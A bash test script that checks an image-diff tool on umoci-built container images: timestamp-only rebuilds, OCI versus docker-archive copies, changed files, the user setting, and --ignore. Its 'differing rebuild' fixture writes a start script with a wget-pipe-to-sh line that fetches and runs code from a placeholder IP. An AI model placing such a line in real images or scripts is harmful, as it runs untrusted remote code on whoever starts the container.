#!/usr/bin/env bash
# test_diff.sh: imagevet diff on images umoci builds here. The same root
# filesystem built twice, with every file's time changed in between, must
# compare equal (times are ignored; the digests differ); the same image as an
# OCI layout and as skopeo's docker-archive must compare equal; a "rebuild"
# with one file changed, one added and a different user must show exactly
# those, and --ignore must leave a path out.
. "$(dirname "$0")/lib/registry.sh"
need skopeo umoci jq python3

[ -x /usr/bin/busybox ] && { ldd /usr/bin/busybox 2>&1 || true; } | grep -q 'not a dynamic' \
  || skip "busybox-static is not installed"

ROOT="$T/rootfs"
make_rootfs "$ROOT" published
mkdir -p "$ROOT/usr/local/bin" "$ROOT/var/log"
printf '#!/bin/sh\nexec /bin/busybox httpd -f\n' > "$ROOT/usr/local/bin/start"
chmod 0755 "$ROOT/usr/local/bin/start"
printf 'build log\n' > "$ROOT/var/log/build.log"

build() {  # TAG USER: an image of $ROOT in $T/oci
  local b="$T/bundle-$1"
  umoci new --image "$T/oci:$1"
  umoci unpack --image "$T/oci:$1" "$b"
  cp -a "$ROOT/." "$b/rootfs/"
  umoci repack --image "$T/oci:$1" --history.created_by "COPY rootfs /" "$b"
  umoci config --image "$T/oci:$1" --os linux --architecture amd64 --config.user "$2" --config.cmd /usr/local/bin/start
  rm -rf "$b"
}
umoci init --layout "$T/oci"
build a 1000
# the same files, every one with another time
find "$ROOT" -exec touch -h -d '2001-02-03 04:05:06' {} +
build again 1000
# a rebuild that differs: one file changed, one added, another user
printf '#!/bin/sh\nwget -q -O- http://203.0.113.7/x | sh\nexec /bin/busybox httpd -f\n' > "$ROOT/usr/local/bin/start"
printf 'other log\n' > "$ROOT/var/log/build.log"
printf 'extra\n' > "$ROOT/usr/local/bin/extra"
build rebuilt 0
"${SKOPEO[@]}" copy -q "oci:$T/oci:a" "docker-archive:$T/a.docker.tar:published:latest"

DA=$(layout_digest a); DG=$(layout_digest again)
[ "$DA" != "$DG" ] && ok "the two builds of the same files have different digests" || bad "the builds have one digest: the test proves nothing"

run same "$IMAGEVET" diff "oci:$T/oci:a" "oci:$T/oci:again"
expect_rc 0 "the same files built twice compare equal"
expect_out "The images are the same" "equal: says so"

run formats "$IMAGEVET" diff "oci:$T/oci:a" "docker-archive:$T/a.docker.tar"
expect_rc 0 "an OCI layout and its docker-archive copy compare equal"

run differ "$IMAGEVET" diff -f json "oci:$T/oci:a" "oci:$T/oci:rebuilt"
expect_rc 1 "the rebuild differs"
changes() { jq -r --arg p "$1" '[.files[] | select(.path == $p) | .changes | join(",")] | join(";")' "$OUT"; }
[ "$(changes /usr/local/bin/start)" = content ] && ok "changed file: content" || bad "start: '$(changes /usr/local/bin/start)'"
[ "$(changes /usr/local/bin/extra)" = only-in-b ] && ok "added file: only in B" || bad "extra: '$(changes /usr/local/bin/extra)'"
[ "$(changes /var/log/build.log)" = content ] && ok "the log differs too" || bad "build.log: '$(changes /var/log/build.log)'"
if jq -e '[.files[] | select(.changes | index("content") or index("only-in-a") or index("only-in-b") or index("mode") or index("owner") or index("link") or index("type"))] | length == 3' "$OUT" >/dev/null; then
  ok "nothing else is listed"; else bad "other files listed"; jq -c '.files[] | {path, changes}' "$OUT"; fi
if jq -e '.config == [{"field": "User", "a": "1000", "b": "0"}]' "$OUT" >/dev/null; then ok "configuration: only the user"; else bad "config"; jq -c .config "$OUT"; fi
if jq -e '.a.digest != .b.digest and .identical == false' "$OUT" >/dev/null; then ok "JSON: digests and identical"; else bad "JSON header"; fi

run ignore "$IMAGEVET" diff --ignore '/var/log/*' "oci:$T/oci:a" "oci:$T/oci:rebuilt"
expect_rc 1 "with the log ignored the rebuild still differs"
expect_no "/var/log/build.log" "ignored: the log is not listed"
expect_out "  ~ /usr/local/bin/start  (content)" "table: the changed file"
expect_out "  + /usr/local/bin/extra  (only in B)" "table: the added file"
expect_out "1 ignored" "table: the ignored count"

run missing "$IMAGEVET" diff "oci:$T/oci:a" "oci:$T/nothing-here:x"
expect_rc 2 "an image that cannot be read"
expect_out "image B" "the error says which image"
finish
